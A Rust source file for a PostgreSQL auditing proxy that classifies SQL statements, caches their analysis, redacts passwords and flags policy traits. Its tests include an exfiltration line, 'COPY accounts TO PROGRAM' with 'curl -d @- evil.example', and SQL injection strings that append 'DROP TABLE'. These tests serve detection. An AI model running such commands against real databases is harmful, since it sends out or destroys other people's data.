//! Statement classification with the real PostgreSQL grammar (pg_query), cached by text.
//!
//! A simple Query may hold several statements; [`Classifier::classify`] returns one
//! [`Statement`] per statement, in order, each with its own text, command tag, class,
//! referenced objects and fingerprint. Text that does not parse is still one statement:
//! its text is kept (with passwords redacted where the tokens allow), and its class is
//! filled in later from the server's command tag.

use std::collections::BTreeMap;
use std::num::NonZeroUsize;
use std::sync::{Arc, Mutex};

use lru::LruCache;

use pg_query::{NodeEnum, NodeRef, ParserOptions};

use crate::command::{describe, object_type_name};
use crate::event::{EventClass, ObjectKind, ObjectRef};
use crate::normalize::normalize;
use crate::password::redact_passwords_with;

/// What one statement is.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Statement {
    /// The statement's own text, with passwords replaced by `<REDACTED>`.
    pub text: Arc<str>,
    /// The command tag, e.g. `SELECT`, `CREATE TABLE`; `None` when the text did not parse.
    pub command: Option<String>,
    /// The pgAudit class; `None` when the text did not parse.
    pub class: Option<EventClass>,
    /// DAS `objectType` / `objectName`: the first object the statement names.
    pub object_type: Option<String>,
    pub object_name: Option<String>,
    /// Every relation and function referenced, in order of appearance.
    pub objects: Vec<ObjectRef>,
    /// pg_query's fingerprint: equal for statements that differ only in constants.
    pub fingerprint: Option<String>,
    /// Says nothing about the data (see [`crate::noise`]).
    pub noise: bool,
    /// Facts policy rules decide on; all false when the text did not parse.
    pub traits: Traits,
    /// sqlcommenter tags from the statement's comments (see [`crate::sqlcommenter_tags`]).
    pub tags: BTreeMap<String, String>,
    /// Everything a policy verdict depends on of the statement (fingerprint, command,
    /// class, traits, objects) as one key, made once per shape: same key, same verdict.
    /// Empty when the text did not parse.
    pub analysis_key: Arc<str>,
}

/// Properties of a statement that the proxy's policy checks (deny rules, password
/// restriction). Same-shape statements share them, so they are cached with the shape.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Traits {
    /// CREATE/ALTER ROLE or USER with a PASSWORD (psql's `\password` sends ALTER USER).
    pub sets_password: bool,
    /// A top-level UPDATE, DELETE or SELECT with a WHERE clause (also `WHERE CURRENT OF`).
    pub has_where: bool,
    /// COPY ... TO/FROM PROGRAM: runs a shell command on the database server.
    pub copy_program: bool,
}

fn traits_of(node: &NodeEnum) -> Traits {
    let has_password = |options: &[pg_query::Node]| {
        options.iter().any(|o| matches!(o.node.as_ref(), Some(NodeEnum::DefElem(d)) if d.defname == "password"))
    };
    match node {
        NodeEnum::CreateRoleStmt(s) => Traits { sets_password: has_password(&s.options), ..Traits::default() },
        NodeEnum::AlterRoleStmt(s) => Traits { sets_password: has_password(&s.options), ..Traits::default() },
        NodeEnum::UpdateStmt(s) => Traits { has_where: s.where_clause.is_some(), ..Traits::default() },
        NodeEnum::DeleteStmt(s) => Traits { has_where: s.where_clause.is_some(), ..Traits::default() },
        NodeEnum::SelectStmt(s) => Traits { has_where: s.where_clause.is_some(), ..Traits::default() },
        NodeEnum::CopyStmt(s) => Traits { copy_program: s.is_program, ..Traits::default() },
        _ => Traits::default(),
    }
}

/// The statements of one Query or Parse text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Classified {
    pub statements: Vec<Statement>,
}

/// A shared cache in front of the parser. Cloning shares the cache.
///
/// Two levels: texts whose literals can be lexed away share one entry per shape (so
/// `... WHERE aid = 1` and `... WHERE aid = 2` cost one parse), and other texts (several
/// statements, odd lexing) are cached by their exact text.
#[derive(Debug, Clone)]
pub struct Classifier {
    cache: Arc<Mutex<Cache>>,
}

#[derive(Debug)]
struct Cache {
    /// Normalized key (prefixed with the string-escaping mode) -> the statement's analysis.
    shapes: LruCache<String, Statement>,
    /// Exact text (prefixed likewise) -> its classification: multi-statement texts and
    /// texts the normalizer cannot lex, up to [`MAX_EXACT_TEXT`] bytes each.
    exact: LruCache<String, Arc<Classified>>,
    /// Bytes the exact entries hold (text and classification, estimated), at most
    /// [`EXACT_CACHE_BYTES`].
    exact_bytes: usize,
}

impl Default for Classifier {
    fn default() -> Self {
        Self::new(10_000)
    }
}

/// Texts up to this size are looked up by shape (literals lexed away).
const MAX_CACHED_TEXT: usize = 16 * 1024;
/// Texts up to this size are cached by their exact text: long multi-statement texts are
/// classified again at every CommandComplete of theirs, so they are worth keeping.
const MAX_EXACT_TEXT: usize = 1 << 20;
/// What the exact-text entries may hold together; the least recently used go first.
const EXACT_CACHE_BYTES: usize = 64 << 20;

/// What an exact entry costs: its key, and the statement texts its classification keeps.
fn exact_entry_bytes(key: &str) -> usize {
    2 * key.len() + 256
}

impl Classifier {
    /// A classifier that keeps at most `capacity` entries of each kind, the least recently
    /// used evicted first.
    pub fn new(capacity: usize) -> Self {
        let capacity = NonZeroUsize::new(capacity).unwrap_or(NonZeroUsize::MIN);
        let cache = Cache { shapes: LruCache::new(capacity), exact: LruCache::new(capacity), exact_bytes: 0 };
        Self { cache: Arc::new(Mutex::new(cache)) }
    }

    /// Classifies `sql` as sent by a client with standard_conforming_strings on.
    pub fn classify(&self, sql: &str) -> Arc<Classified> {
        self.classify_with(sql, true)
    }

    /// Classifies `sql`; a repeated text, or one that differs only in literal values, costs
    /// a lexing pass and one hash lookup instead of a parse.
    pub fn classify_with(&self, sql: &str, standard_conforming_strings: bool) -> Arc<Classified> {
        let shape = if sql.len() <= MAX_CACHED_TEXT { normalize(sql, standard_conforming_strings) } else { None };
        let exact_cacheable = shape.is_none() && sql.len() <= MAX_EXACT_TEXT;
        if let Some(shape) = &shape {
            let key = shape_key(&shape.key, standard_conforming_strings);
            if let Some(template) = self.lock().shapes.get(&key) {
                let statement = from_template(template, sql, shape.statement_end, standard_conforming_strings);
                return Arc::new(Classified { statements: vec![statement] });
            }
        } else if exact_cacheable && let Some(hit) = self.lock().exact.get(&exact_key(sql, standard_conforming_strings))
        {
            return Arc::clone(hit);
        }
        let classified = Arc::new(classify_uncached(sql, standard_conforming_strings));
        let mut cache = self.lock();
        match (&shape, classified.statements.as_slice()) {
            (Some(shape), [statement]) => {
                cache.shapes.put(shape_key(&shape.key, standard_conforming_strings), statement.clone());
            }
            _ if shape.is_some() || exact_cacheable => {
                let key = exact_key(sql, standard_conforming_strings);
                let bytes = exact_entry_bytes(&key);
                if let Some((old, _)) = cache.exact.push(key, Arc::clone(&classified)) {
                    // An entry went: the same key replaced, or the least recently used.
                    cache.exact_bytes = cache.exact_bytes.saturating_sub(exact_entry_bytes(&old));
                }
                cache.exact_bytes += bytes;
                while cache.exact_bytes > EXACT_CACHE_BYTES {
                    let Some((old, _)) = cache.exact.pop_lru() else { break };
                    cache.exact_bytes = cache.exact_bytes.saturating_sub(exact_entry_bytes(&old));
                }
            }
            _ => {}
        }
        classified
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, Cache> {
        // A panic while holding the lock leaves a consistent map (one put or pop).
        self.cache.lock().unwrap_or_else(|poisoned| poisoned.into_inner())
    }
}

/// The exact-text cache key: the same text reads differently with backslash escapes, so
/// the setting is part of the key (regression: a parse made with it on was reused off).
fn exact_key(sql: &str, standard_conforming_strings: bool) -> String {
    let mut out = String::with_capacity(sql.len() + 1);
    out.push(if standard_conforming_strings { 's' } else { 'b' });
    out.push_str(sql);
    out
}

fn shape_key(key: &str, standard_conforming_strings: bool) -> String {
    let mut out = String::with_capacity(key.len() + 1);
    out.push(if standard_conforming_strings { 's' } else { 'b' });
    out.push_str(key);
    out
}

/// The analysis of a same-shape statement, with this text's own statement text.
fn from_template(
    template: &Statement,
    sql: &str,
    statement_end: usize,
    standard_conforming_strings: bool,
) -> Statement {
    let text = sql.get(..statement_end).unwrap_or(sql).trim();
    // Comments are not part of the shape: this text's own tags.
    let tags = crate::sqlcommenter_tags(text, standard_conforming_strings);
    Statement { text: redact_passwords_with(text, standard_conforming_strings).into(), tags, ..template.clone() }
}

fn parser_options(standard_conforming_strings: bool) -> ParserOptions {
    if standard_conforming_strings {
        ParserOptions::DEFAULT
    } else {
        ParserOptions::DISABLE_STANDARD_CONFORMING_STRINGS
    }
}

fn classify_uncached(sql: &str, standard_conforming_strings: bool) -> Classified {
    let options = parser_options(standard_conforming_strings);
    let Ok(parsed) = pg_query::parse(sql, options) else {
        return Classified { statements: vec![Statement::unparsed(sql, standard_conforming_strings)] };
    };
    let raw = &parsed.protobuf.stmts;
    if raw.is_empty() {
        // Only whitespace or comments: the server answers EmptyQueryResponse.
        return Classified { statements: Vec::new() };
    }
    let mut statements = Vec::with_capacity(raw.len());
    // Each statement's text runs from the end of the one before (its `;`), so comments
    // before a statement stay with it: they are evidence (regression, issue 13.5: a
    // leading `/* app:tag1 */` was dropped).
    let mut from = 0usize;
    for stmt in raw {
        let (text, end) = statement_text(sql, from, stmt.stmt_location, stmt.stmt_len);
        from = end;
        let Some(node) = stmt.stmt.as_ref().and_then(|n| n.node.as_ref()) else {
            continue;
        };
        statements.push(classify_statement(text, node, standard_conforming_strings));
    }
    Classified { statements }
}

/// One statement of a text, from `from` (the end of the statement before, or 0) to its end,
/// trimmed; and where the next one starts (after its `;`). `len == 0` means "to the end".
/// Offsets come from the parser and are on character boundaries.
fn statement_text(sql: &str, from: usize, location: i32, len: i32) -> (&str, usize) {
    let location = usize::try_from(location).unwrap_or(0).min(sql.len());
    let end = match usize::try_from(len) {
        Ok(0) | Err(_) => sql.len(),
        Ok(n) => (location + n).min(sql.len()),
    };
    let start = from.min(location);
    let next = if sql.as_bytes().get(end) == Some(&b';') { end + 1 } else { end };
    (sql.get(start..end).unwrap_or(sql).trim(), next)
}

impl Statement {
    /// A text the parser could not read: kept (passwords redacted), nothing known of it.
    pub fn unparsed(sql: &str, standard_conforming_strings: bool) -> Self {
        Statement {
            text: redact_passwords_with(sql, standard_conforming_strings).into(),
            command: None,
            class: None,
            object_type: None,
            object_name: None,
            objects: Vec::new(),
            fingerprint: None,
            noise: false,
            traits: Traits::default(),
            tags: crate::sqlcommenter_tags(sql, standard_conforming_strings),
            analysis_key: Arc::from(""),
        }
    }
}

fn classify_statement(text: &str, node: &NodeEnum, standard_conforming_strings: bool) -> Statement {
    let options = parser_options(standard_conforming_strings);
    let (command, class) = describe(node);
    let objects = referenced_objects(node);
    // DAS and pgAudit name the first relation a statement touches; a function only when
    // it touches none (`SELECT count(*) FROM t` is about t, not count).
    let primary = objects.iter().find(|o| o.kind == ObjectKind::Relation).or(objects.first());
    let object_type = primary.map(|o| match o.kind {
        ObjectKind::Function => "FUNCTION".to_owned(),
        ObjectKind::Relation => ddl_object_type(node).unwrap_or("TABLE").to_owned(),
    });
    let object_name = primary.map(|o| o.name.clone());
    let fingerprint = pg_query::fingerprint(text, options, 0).ok().map(|f| f.hex);
    let text = redact_passwords_with(text, standard_conforming_strings);
    let noise = crate::noise::is_noise(node);
    let traits = traits_of(node);
    let tags = crate::sqlcommenter_tags(&text, standard_conforming_strings);
    let names: Vec<&str> = objects.iter().map(|o| o.name.as_str()).collect();
    let analysis_key = Arc::from(format!(
        "{}\0{command}\0{class:?}\0{traits:?}\0{}",
        fingerprint.as_deref().unwrap_or_default(),
        names.join("\0")
    ));
    Statement {
        text: text.into(),
        command: Some(command),
        class: Some(class),
        object_type,
        object_name,
        objects,
        fingerprint,
        noise,
        traits,
        tags,
        analysis_key,
    }
}

/// For DDL that creates or drops a relation-like object, its kind (VIEW, INDEX, ...).
fn ddl_object_type(node: &NodeEnum) -> Option<&'static str> {
    match node {
        NodeEnum::ViewStmt(_) => Some("VIEW"),
        NodeEnum::CreateSeqStmt(_) | NodeEnum::AlterSeqStmt(_) => Some("SEQUENCE"),
        NodeEnum::DropStmt(d) => Some(object_type_name(d.remove_type)),
        NodeEnum::AlterTableStmt(a) => Some(object_type_name(a.objtype)),
        _ => None,
    }
}

/// Relations (RangeVar) and function calls in text order, then names the parser knows only
/// from DDL (DROP TABLE x, CREATE FUNCTION f), without duplicates.
fn referenced_objects(node: &NodeEnum) -> Vec<ObjectRef> {
    let mut located: Vec<(i32, ObjectRef)> = Vec::new();
    let mut cte_names: Vec<&str> = Vec::new();
    let mut extra: Vec<ObjectRef> = Vec::new();
    for (child, _depth, _context, _filter) in node.nodes() {
        match child {
            NodeRef::CommonTableExpr(cte) => cte_names.push(&cte.ctename),
            NodeRef::RangeVar(v) => {
                let name =
                    if v.schemaname.is_empty() { v.relname.clone() } else { format!("{}.{}", v.schemaname, v.relname) };
                located.push((v.location, ObjectRef { kind: ObjectKind::Relation, name }));
            }
            NodeRef::FuncCall(f) => {
                let name = qualified_name(&f.funcname);
                located.push((f.location, ObjectRef { kind: ObjectKind::Function, name }));
            }
            NodeRef::DropStmt(d) => {
                let kind = match object_type_name(d.remove_type) {
                    "FUNCTION" | "PROCEDURE" | "ROUTINE" | "AGGREGATE" => ObjectKind::Function,
                    "TABLE" | "VIEW" | "INDEX" | "SEQUENCE" | "MATERIALIZED VIEW" | "FOREIGN TABLE" => {
                        ObjectKind::Relation
                    }
                    _ => continue,
                };
                for object in &d.objects {
                    let name = match object.node.as_ref() {
                        Some(NodeEnum::List(list)) => qualified_name(&list.items),
                        Some(NodeEnum::ObjectWithArgs(o)) => qualified_name(&o.objname),
                        _ => continue,
                    };
                    extra.push(ObjectRef { kind, name });
                }
            }
            NodeRef::CreateFunctionStmt(f) => {
                extra.push(ObjectRef { kind: ObjectKind::Function, name: qualified_name(&f.funcname) });
            }
            _ => {}
        }
    }
    located.sort_by_key(|(location, _)| *location);
    let mut objects: Vec<ObjectRef> = Vec::new();
    let candidates = located.into_iter().map(|(_, o)| o).chain(extra);
    for object in candidates {
        let is_cte = object.kind == ObjectKind::Relation && cte_names.contains(&object.name.as_str());
        if !is_cte && !objects.contains(&object) {
            objects.push(object);
        }
    }
    objects
}

fn qualified_name(parts: &[pg_query::Node]) -> String {
    let names: Vec<&str> = parts
        .iter()
        .filter_map(|p| match p.node.as_ref() {
            Some(NodeEnum::String(s)) => Some(s.sval.as_str()),
            _ => None,
        })
        .collect();
    names.join(".")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(sql: &str) -> Statement {
        let mut c = classify_uncached(sql, true);
        assert_eq!(c.statements.len(), 1, "{sql}");
        c.statements.remove(0)
    }

    #[test]
    fn classes_follow_pgaudit() {
        let cases = [
            ("SELECT * FROM phonebook ORDER BY name", "SELECT", EventClass::Read),
            ("INSERT INTO phonebook VALUES (1, 'a')", "INSERT", EventClass::Write),
            ("UPDATE phonebook SET name = 'b'", "UPDATE", EventClass::Write),
            ("DELETE FROM phonebook", "DELETE", EventClass::Write),
            ("TRUNCATE phonebook", "TRUNCATE TABLE", EventClass::Write),
            ("COPY phonebook FROM STDIN", "COPY", EventClass::Write),
            ("COPY phonebook TO STDOUT", "COPY", EventClass::Read),
            ("CREATE TABLE phonebook (id int)", "CREATE TABLE", EventClass::Ddl),
            ("DROP TABLE phonebook", "DROP TABLE", EventClass::Ddl),
            ("CREATE INDEX ON phonebook (id)", "CREATE INDEX", EventClass::Ddl),
            ("ALTER TABLE phonebook ADD COLUMN x int", "ALTER TABLE", EventClass::Ddl),
            ("CREATE DATABASE x", "CREATE DATABASE", EventClass::Ddl),
            ("GRANT SELECT ON phonebook TO app", "GRANT", EventClass::Role),
            ("REVOKE SELECT ON phonebook FROM app", "REVOKE", EventClass::Role),
            ("CREATE USER app", "CREATE ROLE", EventClass::Role),
            ("ALTER ROLE app NOLOGIN", "ALTER ROLE", EventClass::Role),
            ("DROP ROLE app", "DROP ROLE", EventClass::Role),
            ("DO $$ BEGIN PERFORM 1; END $$", "DO", EventClass::Function),
            ("SET search_path = public", "SET", EventClass::Misc),
            ("RESET ALL", "RESET", EventClass::Misc),
            ("SHOW search_path", "SHOW", EventClass::Misc),
            ("BEGIN", "BEGIN", EventClass::Misc),
            ("COMMIT", "COMMIT", EventClass::Misc),
            ("VACUUM phonebook", "VACUUM", EventClass::Misc),
            ("PREPARE q AS SELECT 1", "PREPARE", EventClass::Read),
            ("EXECUTE q", "EXECUTE", EventClass::Misc),
        ];
        for (sql, command, class) in cases {
            let s = one(sql);
            assert_eq!(s.command.as_deref(), Some(command), "{sql}");
            assert_eq!(s.class, Some(class), "{sql}");
        }
    }

    #[test]
    fn objects_in_text_order_schema_qualified_as_written() {
        let s = one("INSERT INTO audit.log SELECT now(), p.name FROM phonebook p JOIN public.people x ON true");
        let names: Vec<_> = s.objects.iter().map(|o| (o.kind, o.name.as_str())).collect();
        assert_eq!(
            names,
            vec![
                (ObjectKind::Relation, "audit.log"),
                (ObjectKind::Function, "now"),
                (ObjectKind::Relation, "phonebook"),
                (ObjectKind::Relation, "public.people"),
            ]
        );
        assert_eq!(s.object_type.as_deref(), Some("TABLE"));
        assert_eq!(s.object_name.as_deref(), Some("audit.log"));
        let cte = one("WITH recent AS (SELECT * FROM orders) SELECT * FROM recent");
        assert_eq!(cte.objects, vec![ObjectRef { kind: ObjectKind::Relation, name: "orders".into() }]);
        let drop = one("DROP TABLE IF EXISTS s.phonebook");
        assert_eq!(drop.object_name.as_deref(), Some("s.phonebook"));
        assert_eq!(drop.object_type.as_deref(), Some("TABLE"));
        let sleep = one("SELECT pg_sleep(10)");
        assert_eq!(sleep.object_type.as_deref(), Some("FUNCTION"));
    }

    /// Issue 13.5: a leading comment was dropped from the statement's text.
    #[test]
    fn regression_leading_comment_dropped_from_the_text() {
        let c = Classifier::new(10);
        for _ in 0..2 {
            // Parsed, then from the shape cache.
            let one = c.classify("/* app:tag1 */ select 1");
            assert_eq!(&*one.statements[0].text, "/* app:tag1 */ select 1");
        }
        let many = c.classify("SELECT 1; /* second */ SELECT 2 /*route='%2Fa'*/; -- done");
        let texts: Vec<&str> = many.statements.iter().map(|s| &*s.text).collect();
        assert_eq!(texts, vec!["SELECT 1", "/* second */ SELECT 2 /*route='%2Fa'*/"]);
        assert_eq!(many.statements[1].tags.get("route").map(String::as_str), Some("/a"));
        assert!(many.statements[0].tags.is_empty());
        // Same shape, other tags: each text keeps its own.
        let a = c.classify("SELECT * FROM t WHERE id = 1 /*route='a'*/");
        let b = c.classify("SELECT * FROM t WHERE id = 2 /*route='b'*/");
        assert_eq!((a.statements[0].tags["route"].as_str(), b.statements[0].tags["route"].as_str()), ("a", "b"));
    }

    /// Issue 13.7: objectName named the first function (`count`), not the table.
    #[test]
    fn regression_object_name_was_a_function_instead_of_the_table() {
        let s = one("SELECT count(*), sum(id) FROM acc_t WHERE id > 5");
        assert_eq!((s.object_type.as_deref(), s.object_name.as_deref()), (Some("TABLE"), Some("acc_t")));
        assert_eq!(s.objects.first().map(|o| o.kind), Some(ObjectKind::Function), "objects keep text order");
    }

    #[test]
    fn multi_statement_text_is_split() {
        let c = classify_uncached("CREATE TABLE t (id int); INSERT INTO t VALUES (1);SELECT * FROM t", true);
        let texts: Vec<_> = c.statements.iter().map(|s| &*s.text).collect();
        assert_eq!(texts, vec!["CREATE TABLE t (id int)", "INSERT INTO t VALUES (1)", "SELECT * FROM t"]);
        assert!(classify_uncached("  -- nothing\n", true).statements.is_empty());
    }

    /// Statement texts are redacted as they are classified (the cases are password.rs's).
    #[test]
    fn passwords_are_redacted() {
        assert_eq!(&*one("CREATE ROLE app LOGIN PASSWORD 'hunter2'").text, "CREATE ROLE app LOGIN PASSWORD <REDACTED>");
        // Inside a DO block, in every text of its shape (all DO blocks share one).
        let c = Classifier::new(10);
        c.classify("DO $$ BEGIN PERFORM 1; END $$");
        let hidden = c.classify("DO $$ BEGIN EXECUTE 'ALTER ROLE a PASSWORD ''secret'''; END $$");
        assert!(!hidden.statements[0].text.contains("secret"), "{}", hidden.statements[0].text);
        // Even when the grammar refuses the statement.
        let bad = one("CREATE ROLE app PASSWORD 'secret' NOSUCHOPTION");
        assert_eq!(bad.command, None);
        assert!(!bad.text.contains("secret"), "{}", bad.text);
    }

    #[test]
    fn traits_for_policy() {
        let c = Classifier::default();
        let traits = |sql: &str| c.classify(sql).statements[0].traits;
        assert!(traits("ALTER USER alice PASSWORD 'SCRAM-SHA-256$4096:abc'").sets_password);
        assert!(traits("CREATE ROLE r LOGIN PASSWORD 'x'").sets_password);
        assert!(traits("alter role r with encrypted password 'x' valid until 'infinity'").sets_password);
        assert!(!traits("ALTER ROLE r NOLOGIN").sets_password);
        assert!(!traits("ALTER ROLE r SET search_path = public").sets_password);
        assert!(traits("UPDATE accounts SET x = 1 WHERE id = 2").has_where);
        assert!(!traits("UPDATE accounts SET x = 1").has_where);
        assert!(!traits("WITH d AS (SELECT 1) DELETE FROM accounts").has_where);
        assert!(traits("DELETE FROM accounts WHERE CURRENT OF c").has_where);
        assert!(traits("COPY accounts TO PROGRAM 'curl -d @- evil.example'").copy_program);
        assert!(!traits("COPY accounts TO STDOUT").copy_program);
        assert_eq!(traits("not sql at all"), Traits::default());
    }

    #[test]
    fn unparsable_text_is_kept() {
        let s = one("selec 1");
        assert_eq!(&*s.text, "selec 1");
        assert_eq!(s.class, None);
    }

    #[test]
    fn fingerprint_ignores_constants() {
        assert_eq!(one("SELECT * FROM t WHERE id = 1").fingerprint, one("SELECT * FROM t WHERE id = 2").fingerprint);
        assert_ne!(one("SELECT * FROM t").fingerprint, one("SELECT * FROM u").fingerprint);
    }

    #[test]
    fn same_shape_statements_share_one_analysis_but_keep_their_text() {
        let c = Classifier::new(100);
        let a = c.classify("SELECT abalance FROM pgbench_accounts WHERE aid = 17;");
        let b = c.classify("SELECT abalance FROM pgbench_accounts WHERE aid = 99841;");
        assert_eq!(&*b.statements[0].text, "SELECT abalance FROM pgbench_accounts WHERE aid = 99841");
        assert_eq!(a.statements[0].fingerprint, b.statements[0].fingerprint);
        assert_eq!(b, Arc::new(classify_uncached("SELECT abalance FROM pgbench_accounts WHERE aid = 99841;", true)));
        // Passwords are redacted in every text of the shape, not just the first.
        c.classify("ALTER ROLE app PASSWORD 'first'");
        let second = c.classify("ALTER ROLE app PASSWORD 'second-secret'");
        assert_eq!(&*second.statements[0].text, "ALTER ROLE app PASSWORD <REDACTED>");
        // A different statement hidden in a literal-looking place is a different shape.
        let tricky = c.classify("SELECT abalance FROM pgbench_accounts WHERE aid = 1; DROP TABLE x");
        assert_eq!(tricky.statements.len(), 2);
        assert_eq!(tricky.statements[1].command.as_deref(), Some("DROP TABLE"));
    }

    #[test]
    fn backslash_strings_follow_the_session_setting() {
        let c = Classifier::new(100);
        // With standard_conforming_strings off, 'a\' DROP ...' is one literal: one SELECT.
        let off = c.classify_with("SELECT 'a\\' ; DROP TABLE x; --'", false);
        assert_eq!(off.statements.len(), 1, "{off:?}");
        let on = c.classify_with("SELECT 'a\\' ; DROP TABLE x; --'", true);
        assert_eq!(on.statements.len(), 2, "{on:?}");
    }

    /// Issue 12.1: a multi-statement text parsed with standard_conforming_strings on was
    /// found in the exact-text cache by its text alone when the session had it off.
    #[test]
    fn regression_exact_cache_reused_a_parse_made_under_the_other_string_mode() {
        let c = Classifier::new(100);
        let text = "SELECT 1; SELECT 'a\\'' ; DROP TABLE victim; -- '";
        let on = c.classify_with(text, true);
        assert_eq!(on.statements.len(), 2, "{on:?}");
        let off = c.classify_with(text, false);
        assert_eq!(off.statements.len(), 3, "{off:?}");
        assert_eq!(off.statements[2].command.as_deref(), Some("DROP TABLE"));
    }

    #[test]
    fn cache_returns_the_same_result() {
        let c = Classifier::new(2);
        // Several statements are cached by exact text.
        let a = c.classify("SELECT 1; SELECT 2");
        let b = c.classify("SELECT 1; SELECT 2");
        assert!(Arc::ptr_eq(&a, &b));
        // The bound holds: older entries go, answers stay right.
        c.classify("SELECT 3; SELECT 4");
        c.classify("SELECT 5; SELECT 6");
        assert!(c.lock().exact.len() <= 2);
        assert_eq!(c.classify("SELECT 1; SELECT 2").statements[1].command.as_deref(), Some("SELECT"));
    }

    /// Issue 15.3: the caches were cleared whole when full, so a workload with one shape
    /// too many parsed everything again; now the least recently used entry goes.
    #[test]
    fn a_full_cache_evicts_the_least_recently_used_entry_not_everything() {
        let c = Classifier::new(2);
        let has = |c: &Classifier, table: &str| c.lock().shapes.iter().any(|(k, _)| k.contains(table));
        c.classify("SELECT * FROM tbl_a WHERE id = 1");
        c.classify("SELECT * FROM tbl_b WHERE id = 1");
        c.classify("SELECT * FROM tbl_a WHERE id = 2"); // a is used again
        c.classify("SELECT * FROM tbl_c WHERE id = 1");
        assert!(has(&c, "tbl_a") && has(&c, "tbl_c"), "the recent entries stay");
        assert!(!has(&c, "tbl_b"), "the least recently used one went");
    }

    /// Issue 15.3: multi-statement texts over 16 KiB were never cached, so the tracker
    /// parsed them again at every CommandComplete of theirs.
    #[test]
    fn long_multi_statement_texts_are_cached_by_their_exact_text() {
        let c = Classifier::new(10);
        let long: String = (0..2000).map(|i| format!("INSERT INTO t VALUES ({i});")).collect();
        assert!(long.len() > MAX_CACHED_TEXT);
        let first = c.classify(&long);
        assert_eq!(first.statements.len(), 2000);
        assert!(Arc::ptr_eq(&first, &c.classify(&long)), "the second classification is the cached one");
        let bytes = c.lock().exact_bytes;
        assert!(bytes >= 2 * long.len() && bytes <= EXACT_CACHE_BYTES, "{bytes}");
    }
}
